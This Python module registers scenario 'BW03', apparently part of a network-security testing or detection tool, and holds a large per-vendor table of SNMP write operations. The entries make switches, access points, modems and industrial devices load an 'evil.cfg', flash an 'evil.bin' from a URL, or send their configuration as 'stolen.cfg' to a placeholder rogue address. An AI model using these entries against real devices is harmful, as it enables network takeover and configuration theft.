"""BW03: configurations moved by the objects of every vendor of the atlas."""

from __future__ import annotations

from bootwarden.scenarios.snmp_atlas import read_table, register

ORDERS = read_table("""
# Access points of several makers: Aruba AP-80, HP 420, Nortel, ORiNOCO, Colubris, Meru, Xirrus
1542006385 1.3.6.1.4.1.14823.2.3.2.4 1.0=2 2.0=2 3.0=evil.cfg 5.0=ADDRESS 9.0=1 > evil.cfg rogue
1542006383 1.3.6.1.4.1.14823.2.3.2.4 1.0=2 2.0=2 4.0=stolen.cfg 5.0=ADDRESS 9.0=2 > stolen.cfg rogue
1542006388 1.3.6.1.4.1.11.2.3.7.11.37.4 1.0=1 2.0=2 3.0=2 4.0=evil.cfg 6.0=ADDRESS > evil.cfg rogue
1542006395 1.3.6.1.4.1.45.1.11.1.4 1.0=1 2.0=1 3.0=2 4.0=evil.cfg 6.0=ADDRESS > evil.cfg rogue
1542006393 1.3.6.1.4.1.45.1.11.1.4 1.0=1 2.0=3 5.0=stolen.cfg 6.0=ADDRESS > stolen.cfg rogue
1542006402 1.3.6.1.4.1.11898.2.1.8 1.0=ADDRESS 2.0=evil.cfg 3.0=1 4.0=2 > evil.cfg rogue
1542006400 1.3.6.1.4.1.11898.2.1.8 1.0=ADDRESS 2.0=stolen.cfg 3.0=1 4.0=1 > stolen.cfg rogue
1542006409 1.3.6.1.4.1.8744.5.2.1.2 4.0=URL 5.0=1 6.0=1 > evil.bin rogue
1542006408 1.3.6.1.4.1.8744.5.2.1.2 4.0=URL 5.0=1 6.0=2 > evil.bin rogue
1542006407 1.3.6.1.4.1.8744.5.2.1.2 4.0=URL 5.0=1 > evil.bin rogue
1542006412 1.3.6.1.4.1.21013.1.2.28 28.0=ADDRESS 30.0=evil.cfg > evil.cfg rogue
1542006413 1.3.6.1.4.1.45.8.1.1.28 28.0=ADDRESS 30.0=evil.cfg > evil.cfg rogue
# Accton switches under other brands: Enterasys V2, Sixnet
1542006423 1.3.6.1.4.1.52.4.12.30.1.24.1 1.0=4 2.0=evil.cfg 6.0=ADDRESS 8.0=2 > evil.cfg rogue
1542006421 1.3.6.1.4.1.52.4.12.30.1.24.1 3.0=4 4.0=stolen.cfg 6.0=ADDRESS 8.0=2 > stolen.cfg rogue
1542006425 1.3.6.1.4.1.52.4.12.30.1.7 2.0=evil.cfg > evil.cfg -
1542006431 1.3.6.1.4.1.20540.2.2.1.1.24.1 1.0=4 2.0=evil.cfg 6.0=ADDRESS 8.0=2 > evil.cfg rogue
1542006429 1.3.6.1.4.1.20540.2.2.1.1.24.1 3.0=4 4.0=stolen.cfg 6.0=ADDRESS 8.0=2 > stolen.cfg rogue
1542006433 1.3.6.1.4.1.20540.2.2.1.1.7 2.0=evil.cfg > evil.cfg -
# Adtran AOS
1542006358 1.3.6.1.4.1.664.5.53.1.3.1.1 4.1=PORTED 6.1=evil.cfg 10.1=4 14.1=3 > evil.cfg rogue
# Allied Telesis
1542006370 1.3.6.1.4.1.207.8.4.4.4.600.3 5.0=4 6.0=stolen.cfg 7.0=stolen.cfg 13.1.0=ADDRESS > stolen.cfg rogue
# APC and MGE: UPS, PDU and their management cards
1542006378 1.3.6.1.4.1.318.2.4 2.1.1.0=evil.cfg 2.2.1.0=NAME 3.1.0=2 > evil.cfg rogue
1542006377 1.3.6.1.4.1.318.2.4 2.1.1.0=evil.cfg 2.3.1.0=NAME 3.1.0=3 > evil.cfg rogue
# Asante
1542006444 1.3.6.1.4.1.298.1.5.1.1.1 1.0=3 3.0=2 4.0=ADDRESS 5.0=evil.cfg > evil.cfg rogue
1542006442 1.3.6.1.4.1.298.1.5.1.1.1 1.0=4 4.0=ADDRESS 5.0=stolen.cfg > stolen.cfg rogue
# AudioCodes Mediant
1542006615 1.3.6.1.4.1.5003.9.10.10.1.3.8 5.0=URL > evil.bin rogue
1542006614 1.3.6.1.4.1.5003.9.10.10.1.3.8 6.0=URL > evil.bin rogue
1542006617 1.3.6.1.4.1.5003.9.10.10.3.1.3 1.0=1 4.0=URL > evil.bin rogue
# BLADE OS: HP and IBM blade switches, RackSwitch, Alteon
1542006503 1.3.6.1.4.1.11.2.3.7.11.33.4.2.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006504 1.3.6.1.4.1.26543.2.7.4.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006505 1.3.6.1.4.1.26543.2.7.6.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006506 1.3.6.1.4.1.26543.2.7.7.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006507 1.3.6.1.4.1.20301.2.7.13.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006508 1.3.6.1.4.1.20301.2.7.15.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006509 1.3.6.1.4.1.1872.2.5.1.1.7 1.0=NAME 4.0=evil.cfg 6.0=3 > evil.cfg rogue
1542006496 1.3.6.1.4.1.11.2.3.7.11.33.4.2.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006497 1.3.6.1.4.1.26543.2.7.4.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006498 1.3.6.1.4.1.26543.2.7.6.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006499 1.3.6.1.4.1.26543.2.7.7.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006500 1.3.6.1.4.1.20301.2.7.13.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006501 1.3.6.1.4.1.20301.2.7.15.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006502 1.3.6.1.4.1.1872.2.5.1.1.7 1.0=NAME 4.0=stolen.cfg 6.0=4 > stolen.cfg rogue
1542006524 1.3.6.1.4.1.11.2.3.7.11.33.4.2.1.1.1 8.0=2 > - -
1542006525 1.3.6.1.4.1.26543.2.7.4.1.1.1 8.0=2 > - -
1542006526 1.3.6.1.4.1.26543.2.7.6.1.1.1 8.0=2 > - -
1542006527 1.3.6.1.4.1.26543.2.7.7.1.1.1 8.0=2 > - -
1542006528 1.3.6.1.4.1.20301.2.7.13.1.1.1 8.0=2 > - -
1542006529 1.3.6.1.4.1.20301.2.7.15.1.1.1 8.0=2 > - -
1542006530 1.3.6.1.4.1.1872.2.5.1.1.1 8.0=2 > - -
1542006550 1.3.6.1.4.1.26543.2.7.6.1.1 1.133.0=1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006551 1.3.6.1.4.1.26543.2.7.4.1.1 1.133.0=1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006552 1.3.6.1.4.1.26543.2.7.7.1.1 1.133.0=1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006553 1.3.6.1.4.1.20301.2.7.13.1.1 1.133.0=1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006554 1.3.6.1.4.1.20301.2.7.15.1.1 1.133.0=1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006545 1.3.6.1.4.1.26543.2.7.6.1.1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006546 1.3.6.1.4.1.26543.2.7.4.1.1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006547 1.3.6.1.4.1.26543.2.7.7.1.1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006548 1.3.6.1.4.1.20301.2.7.13.1.1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006549 1.3.6.1.4.1.20301.2.7.15.1.1 1.134.0=ADDRESS 1.135.0=evil.cfg > evil.cfg rogue
1542006557 1.3.6.1.4.1.26543.100 81.1.10.0=3 81.1.12.0=stolen.cfg 81.1.13.0=1 100.17.3.1.0=NAME > stolen.cfg rogue
1542006558 1.3.6.1.4.1.20301.100 81.1.10.0=3 81.1.12.0=stolen.cfg 81.1.13.0=1 100.17.3.1.0=NAME > stolen.cfg rogue
1542006555 1.3.6.1.4.1.26543.100 81.1.10.0=6 81.1.12.0=evil.cfg 81.1.13.0=1 100.17.3.1.0=NAME > evil.cfg rogue
1542006556 1.3.6.1.4.1.20301.100 81.1.10.0=6 81.1.12.0=evil.cfg 81.1.13.0=1 100.17.3.1.0=NAME > evil.cfg rogue
1542006559 1.3.6.1.4.1.26543.100.100 17.1.10.0=2 > - -
1542006560 1.3.6.1.4.1.20301.100.100 17.1.10.0=2 > - -
1542006566 1.3.6.1.4.1.26543.102 81.1.10.0=3 81.1.12.0=stolen.cfg 81.1.13.0=1 102.18.3.1.0=NAME > stolen.cfg rogue
1542006565 1.3.6.1.4.1.26543.102 81.1.10.0=6 81.1.12.0=evil.cfg 81.1.13.0=1 102.18.3.1.0=NAME > evil.cfg rogue
1542006567 1.3.6.1.4.1.26543.102.102 18.1.10.0=2 > - -
1542006575 1.3.6.1.4.1.1872.2.1.2.1 5.0=2 > - -
1542006572 1.3.6.1.4.1.1872.2.1.2.1 13.0=ADDRESS 19.0=evil.cfg 21.0=3 > evil.cfg rogue
1542006571 1.3.6.1.4.1.1872.2.1.2.1 13.0=ADDRESS 19.0=stolen.cfg 21.0=4 > stolen.cfg rogue
# Cabletron and Enterasys
1542006452 1.3.6.1.4.1.52.2501.1.231 1.0=2 2.0=ADDRESS 3.0=evil.cfg 4.0=1 > evil.cfg rogue
1542006451 1.3.6.1.4.1.52.2501.1.231 1.0=3 2.0=ADDRESS 3.0=stolen.cfg 4.0=1 > stolen.cfg rogue
1542006453 1.3.6.1.4.1.52.2501.1 231.6.0=1 > - -
1542006462 1.3.6.1.4.1.5624.1.2.11.1.4 2.0=ADDRESS 3.0=stolen.cfg > stolen.cfg rogue
# Cambium Networks
1542006464 1.3.6.1.4.1.17713.21.6.4 20.0=URL > evil.bin rogue
# Ciena (World Wide Packets LEOS, SAOS)
1542006475 1.3.6.1.4.1.6141.2.60.12.1.1 3.0=evil.cfg > evil.cfg -
# Cisco CatOS and other switches before IOS
1542006103 1.3.6.1.4.1.9.5.1.5 1.0=NAME 2.0=evil.cfg 4.0=2 > evil.cfg rogue
1542006102 1.3.6.1.4.1.9.5.1.5 1.0=NAME 2.0=stolen.cfg 4.0=3 > stolen.cfg rogue
1542006107 1.3.6.1.4.1.9.5.1.25 1.0=1 2.0=NAME 3.0=evil.cfg 7.0=2 > evil.cfg rogue
1542006106 1.3.6.1.4.1.9.5.1.25 1.0=1 2.0=NAME 4.0=stolen.cfg 7.0=3 > stolen.cfg rogue
1542006108 1.3.6.1.4.1.9.5.1.1 51.0=evil.cfg > evil.cfg -
1542006122 1.3.6.1.4.1.9.9.53.1.1.1.1 3.1=ADDRESS 4.1=evil.cfg 5.1=2 > evil.cfg rogue
1542006123 1.3.6.1.4.1.9.9.46.1.2.1.1 8.1=ADDRESS 9.1=evil.cfg > evil.cfg rogue
# Cisco and Airespace wireless controllers and access points
1542006126 1.3.6.1.4.1.14179.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006128 1.3.6.1.4.1.14179.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006306 1.3.6.1.4.1.14179.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006130 1.3.6.1.4.1.9.9.618.1.1 2.1.0=3 8.1.1.3.1.1=1 8.1.1.4.1.1=BYTES 8.1.1.6.1.1=in 8.1.1.12.1.1=2 > in rogue
1542006132 1.3.6.1.4.1.9.9.618.1 1.3.1.0=2 1.8.1.1.4.2.1=BYTES 1.8.1.1.6.2.1=out 1.8.1.1.12.2.1=2 > out rogue
1542006308 1.3.6.1.4.1.9.9.618.1 1.8.1.1.3.2.1=1 1.8.1.1.4.2.1=BYTES 1.8.1.1.6.2.1=out 1.8.1.1.12.2.1=2 > out rogue
1542006139 1.3.6.1.4.1.9.9.513.1.11 1.0=1 2.0=BYTES 3.0=stolen.cfg 12.0=1 > stolen.cfg rogue
1542006140 1.3.6.1.4.1.522.3 2.19.0=2 4.1.0=NAME 4.2.0=1 > - rogue
# H3C and HPE Comware
1542006327 1.3.6.1.4.1.11.2.14.11.15.2.4.1.2.4.1 2.1=4 3.1=2 4.1=evil.cfg 5.1=ADDRESS 9.1=4 > evil.cfg rogue
1542006328 1.3.6.1.4.1.43.45.1.6.10.1.2.4.1 2.1=4 3.1=2 4.1=evil.cfg 5.1=ADDRESS 9.1=4 > evil.cfg rogue
1542006325 1.3.6.1.4.1.11.2.14.11.15.2.4.1.2.4.1 2.1=3 3.1=2 4.1=stolen.cfg 5.1=ADDRESS 9.1=4 > stolen.cfg rogue
1542006326 1.3.6.1.4.1.43.45.1.6.10.1.2.4.1 2.1=3 3.1=2 4.1=stolen.cfg 5.1=ADDRESS 9.1=4 > stolen.cfg rogue
1542006331 1.3.6.1.4.1.25506.6 6.0=1 > - -
1542006332 1.3.6.1.4.1.2011.10.6 6.0=1 > - -
1542006333 1.3.6.1.4.1.43.45.1.10.6 6.0=1 > - -
1542006334 1.3.6.1.4.1.11.2.14.11.15.6 6.0=1 > - -
1542006339 1.3.6.1.4.1.25506.2.3.1.3 3.1.3.1=1 > - -
1542006340 1.3.6.1.4.1.2011.10.2.3.1.3 3.1.3.1=1 > - -
1542006341 1.3.6.1.4.1.43.45.1.10.2.3.1.3 3.1.3.1=1 > - -
1542006342 1.3.6.1.4.1.11.2.14.11.15.2.3.1.3 3.1.3.1=1 > - -
# D-Link
1542006216 1.3.6.1.4.1.171.10.75.5.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006217 1.3.6.1.4.1.171.10.75.7.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006218 1.3.6.1.4.1.171.10.75.14.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006219 1.3.6.1.4.1.171.10.75.14.1.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006220 1.3.6.1.4.1.171.10.75.16.1.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006221 1.3.6.1.4.1.171.10.76.10.3 5.0=ADDRESS 6.0=evil.cfg 7.0=1 > evil.cfg rogue
1542006210 1.3.6.1.4.1.171.10.75.5.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006211 1.3.6.1.4.1.171.10.75.7.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006212 1.3.6.1.4.1.171.10.75.14.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006213 1.3.6.1.4.1.171.10.75.14.1.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006214 1.3.6.1.4.1.171.10.75.16.1.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006215 1.3.6.1.4.1.171.10.76.10.3 5.0=ADDRESS 6.0=stolen.cfg 7.0=2 > stolen.cfg rogue
1542006246 1.3.6.1.4.1.171.10.75.14.1.3.10 1.0=BYTES 4.0=evil.cfg 5.0=1 > evil.cfg rogue
1542006247 1.3.6.1.4.1.171.10.75.7.3.10 1.0=BYTES 4.0=evil.cfg 5.0=1 > evil.cfg rogue
1542006248 1.3.6.1.4.1.171.10.75.16.1.3.10 1.0=BYTES 4.0=evil.cfg 5.0=1 > evil.cfg rogue
1542006249 1.3.6.1.4.1.171.10.75.20.1.3.10 1.0=BYTES 4.0=evil.cfg 5.0=1 > evil.cfg rogue
1542006242 1.3.6.1.4.1.171.10.75.14.1.3.10 1.0=BYTES 4.0=stolen.cfg 5.0=2 > stolen.cfg rogue
1542006243 1.3.6.1.4.1.171.10.75.7.3.10 1.0=BYTES 4.0=stolen.cfg 5.0=2 > stolen.cfg rogue
1542006244 1.3.6.1.4.1.171.10.75.16.1.3.10 1.0=BYTES 4.0=stolen.cfg 5.0=2 > stolen.cfg rogue
1542006245 1.3.6.1.4.1.171.10.75.20.1.3.10 1.0=BYTES 4.0=stolen.cfg 5.0=2 > stolen.cfg rogue
1542006256 1.3.6.1.4.1.171.10.75.14.1.107.2 1.0=NAME 2.0=evil.cfg 8.0=1 > evil.cfg rogue
1542006257 1.3.6.1.4.1.171.10.75.16.1.107.2 1.0=NAME 2.0=evil.cfg 8.0=1 > evil.cfg rogue
1542006254 1.3.6.1.4.1.171.10.75.14.1.107.2 1.0=NAME 2.0=stolen.cfg 8.0=2 > stolen.cfg rogue
1542006255 1.3.6.1.4.1.171.10.75.16.1.107.2 1.0=NAME 2.0=stolen.cfg 8.0=2 > stolen.cfg rogue
1542006293 1.3.6.1.4.1.171.14.14.1.2.1 2.1=2 4.1=stolen.cfg 5.1=1 6.1=BYTES 12.1=4 > stolen.cfg rogue
1542006294 1.3.6.1.4.1.171.14.14.1.3.1 2.1=2 3.1=evil.cfg 4.1=1 5.1=BYTES 11.1=4 > evil.cfg rogue
1542006295 1.3.6.1.4.1.171.14.14.1.1 1.0=evil.cfg > evil.cfg -
# Cable modems and telephony adapters (DOCSIS, PacketCable)
1542006203 1.3.6.1.2.1.140.1.2 9.0=URL > evil.bin rogue
1542006206 1.3.6.1.2.1.10.239.1.1 2.15.0=URL 5.8.0=2 > evil.bin rogue
1542006205 1.3.6.1.2.1.10.239.1.1 2.17.0=URL 5.9.0=2 > evil.bin rogue
# EtherWAN
1542006479 1.3.6.1.4.1.2736.1.1.1.5 1.0=evil.cfg 2.0=ADDRESS 3.0=1 4.0=1 > evil.cfg rogue
1542006478 1.3.6.1.4.1.2736.1.1.1.5 1.0=stolen.cfg 2.0=ADDRESS 3.0=2 4.0=1 > stolen.cfg rogue
# Extreme Networks
1542006490 1.3.6.1.4.1.1916.1.1.1 6.0=1 49.0=evil.cfg > evil.cfg -
1542006489 1.3.6.1.4.1.1916.1.1.1 49.0=evil.cfg > evil.cfg -
# FASTPATH: Dell PowerConnect and EMC Networking, Netgear ProSAFE
1542006143 1.3.6.1.4.1.4413.1.1.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006144 1.3.6.1.4.1.4526.10.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006145 1.3.6.1.4.1.4526.11.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006146 1.3.6.1.4.1.4526.1.6.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006147 1.3.6.1.4.1.4526.1.7.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006148 1.3.6.1.4.1.4526.1.8.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006149 1.3.6.1.4.1.4526.1.9.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006150 1.3.6.1.4.1.248.15.1.2.9.2 1.0=1 2.0=ADDRESS 4.0=evil.cfg 5.0=3 6.0=1 > evil.cfg rogue
1542006167 1.3.6.1.4.1.4413.1.1.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006168 1.3.6.1.4.1.4526.10.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006169 1.3.6.1.4.1.4526.11.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006170 1.3.6.1.4.1.4526.1.6.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006171 1.3.6.1.4.1.4526.1.7.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006172 1.3.6.1.4.1.4526.1.8.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006173 1.3.6.1.4.1.4526.1.9.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006174 1.3.6.1.4.1.248.15.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 5.0=2 6.0=1 > stolen.cfg rogue
1542006317 1.3.6.1.4.1.4413.1.1.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006318 1.3.6.1.4.1.4526.10.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006319 1.3.6.1.4.1.4526.11.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006320 1.3.6.1.4.1.4526.1.6.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006321 1.3.6.1.4.1.4526.1.7.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006322 1.3.6.1.4.1.4526.1.8.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006323 1.3.6.1.4.1.4526.1.9.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006324 1.3.6.1.4.1.248.15.1.2.9.1 1.0=1 2.0=ADDRESS 4.0=stolen.cfg 6.0=1 > stolen.cfg rogue
1542006199 1.3.6.1.4.1.4526.1.1.11 32.0=ADDRESS 33.0=evil.cfg 34.0=1 > evil.cfg rogue
1542006198 1.3.6.1.4.1.4526.1.1.11 32.0=ADDRESS 33.0=stolen.cfg 34.0=2 > stolen.cfg rogue
# Hirschmann
1542006303 1.3.6.1.4.1.248.14.2.4 2.0=URL 6.0=5 > evil.bin rogue
1542006302 1.3.6.1.4.1.248.14.2.4 2.0=URL 6.0=6 > evil.bin rogue
# Huawei VRP
1542006581 1.3.6.1.4.1.2011.6.10.1.3.7.1 2.1=BYTES 3.1=2 6.1=stolen.cfg 7.1=4 11.1=1 > stolen.cfg rogue
1542006584 1.3.6.1.4.1.2011.5.25.311 1.5.0=1 2.4.1.6.1=evil.cfg > evil.cfg -
# LANCOM
1542006595 1.3.6.1.4.1.2356.1000.1.1751.2.60.1 2.2.0=URL > evil.bin rogue
1542006596 1.3.6.1.4.1.2356.500.2.1712.2.60.1 2.2.0=URL > evil.bin rogue
# Mellanox and NVIDIA MLNX-OS
1542006619 1.3.6.1.4.1.33049.12.1.1.2 1.0=URL 3.0=1 > evil.bin rogue
1542006618 1.3.6.1.4.1.33049.12.1.1.2 1.0=URL 3.0=4 > evil.bin rogue
# MICROSENS
1542006623 1.3.6.1.4.1.3181.10.6.3.72.4.1 9.1=evil.cfg > evil.cfg -
1542006622 1.3.6.1.4.1.3181.10.6.3.72.4.1 10.1=stolen.cfg > stolen.cfg -
1542006624 1.3.6.1.4.1.3181.10.6.3.72.9.1 5.1=URL > evil.bin rogue
1542006626 1.3.6.1.4.1.3181.10.6.3.72.10.1 2.1=1 > - -
1542006625 1.3.6.1.4.1.3181.10.6.3.72.10.1 3.1=1 > - -
# Moxa EtherDevice switches
1542006299 1.3.6.1.4.1.8691.7.7.1.31 1.0=NAME 4.0=evil.cfg 5.0=2 > evil.cfg rogue
1542006298 1.3.6.1.4.1.8691.7.7.1.31 1.0=NAME 4.0=stolen.cfg 5.0=3 > stolen.cfg rogue
# Nateks
1542006631 1.3.6.1.4.1.4249.2.6.1 1.0=ADDRESS 3.0=evil.cfg 6.0=4 11.0=1 > evil.cfg rogue
1542006630 1.3.6.1.4.1.4249.2.6.1 1.0=ADDRESS 3.0=stolen.cfg 6.0=5 11.0=1 > stolen.cfg rogue
# Nortel and Avaya: BayStack, SynOptics, Centillion, Passport
1542006640 1.3.6.1.4.1.45.1.6.4 2.1.24.0=2 2.2.1.5.1=ADDRESS 4.4.0=evil.cfg > evil.cfg rogue
1542006639 1.3.6.1.4.1.45.1.6.4 2.1.24.0=4 2.2.1.5.1=ADDRESS 4.4.0=stolen.cfg > stolen.cfg rogue
1542006638 1.3.6.1.4.1.45.1.6.4 2.2.1.5.1=ADDRESS 4.6.0=evil.cfg 4.9.0=4 > evil.cfg rogue
1542006637 1.3.6.1.4.1.45.1.6.4 2.2.1.5.1=ADDRESS 4.6.0=stolen.cfg 4.19.0=4 > stolen.cfg rogue
1542006636 1.3.6.1.4.1.45.1.6.4 2.2.1.5.1=ADDRESS 4.6.0=evil.cfg 4.7.0=2 > evil.cfg rogue
1542006634 1.3.6.1.4.1.45.1.6.4 2.1.6.0=3 2.2.1.5.1=ADDRESS 4.4.0=evil.cfg > evil.cfg rogue
1542006645 1.3.6.1.4.1.45.1.2 1.6.0=evil.cfg 1.17.0=2 2.1.4.0=ADDRESS > evil.cfg rogue
1542006658 1.3.6.1.4.1.930.2.1.2.18 1.0=2 2.0=ADDRESS 3.0=evil.cfg 4.0=1 > evil.cfg rogue
1542006656 1.3.6.1.4.1.930.2.1.2.18 1.0=3 2.0=ADDRESS 3.0=stolen.cfg 4.0=1 > stolen.cfg rogue
1542006659 1.3.6.1.4.1.930.2.1.2 14.1.5.0=ADDRESS 15.0=2 16.0=evil.cfg > evil.cfg rogue
1542006661 1.3.6.1.4.1.562.73.1.1.1.4.1.1.1 2.1=1 3.1=ADDRESS 4.1=evil.cfg > evil.cfg rogue
1542006660 1.3.6.1.4.1.562.73.1.1.1.4.1.1.1 2.1=2 3.1=ADDRESS 4.1=stolen.cfg > stolen.cfg rogue
# OneAccess
1542006664 1.3.6.1.4.1.13191.10.3.4.6.1.2 2.1.1.10.0.6.66=evil.cfg > evil.cfg rogue
1542006663 1.3.6.1.4.1.13191.10.3.4.6.1.2 3.1.1.10.0.6.66=stolen.cfg > stolen.cfg rogue
# RAD
1542006670 1.3.6.1.4.1.164.6.2.12 1.0=ADDRESS 2.0=evil.cfg 3.0=2 15.0=1 > evil.cfg rogue
1542006669 1.3.6.1.4.1.164.6.2.12 1.0=ADDRESS 2.0=stolen.cfg 3.0=3 15.0=1 > stolen.cfg rogue
# Radlan: small switches of Cisco, Dell, Netgear and others
1542006703 1.3.6.1.4.1.89.26.5 4.0=evil.cfg 6.0=ADDRESS > evil.cfg rogue
1542006704 1.3.6.1.4.1.9.6.1.101.26.5 4.0=evil.cfg 6.0=ADDRESS > evil.cfg rogue
1542006701 1.3.6.1.4.1.89.26.5 3.0=stolen.cfg 6.0=ADDRESS > stolen.cfg rogue
1542006702 1.3.6.1.4.1.9.6.1.101.26.5 3.0=stolen.cfg 6.0=ADDRESS > stolen.cfg rogue
# Siemens SCALANCE and SIMATIC NET
1542006684 1.3.6.1.4.1.4329.20.1.1.1.1.26.10 1.0=ADDRESS 10.1.3.1=evil.cfg 11.1.1.1=2 > evil.cfg rogue
1542006683 1.3.6.1.4.1.4329.20.1.1.1.1.26.10 1.0=ADDRESS 10.1.3.1=stolen.cfg 11.1.2.1=2 > stolen.cfg rogue
1542006686 1.3.6.1.4.1.4329.20.1.1.1.1.26.11 1.0=BYTES 2.0=1 10.1.3.1=evil.cfg 11.1.1.1=2 > evil.cfg rogue
1542006685 1.3.6.1.4.1.4329.20.1.1.1.1.26.11 1.0=BYTES 2.0=1 10.1.3.1=stolen.cfg 11.1.2.1=2 > stolen.cfg rogue
1542006687 1.3.6.1.4.1.4329.20.1.1.1.1.17.1 3.0=1 > - -
# Sixnet and Red Lion industrial switches
1542006437 1.3.6.1.4.1.20540.2.1.9999.3 1.0=2 3.0=NAME 4.0=evil.cfg > evil.cfg rogue
# Transition Networks
1542006694 1.3.6.1.4.1.868.2.80.9.4.4 4.0=ADDRESS 5.0=evil.cfg 6.1.5.1=1 > evil.cfg rogue
1542006693 1.3.6.1.4.1.868.2.80.9.4.4 4.0=ADDRESS 5.0=evil.cfg 6.1.6.1=1 > evil.cfg rogue
# Extreme and Motorola WiNG
1542006482 1.3.6.1.4.1.388.50.1.5.1 1.3.0=URL 3.0=1 > evil.bin rogue
""")

register("BW03", ORDERS, "Devices of many vendors are told to load or to send a configuration")
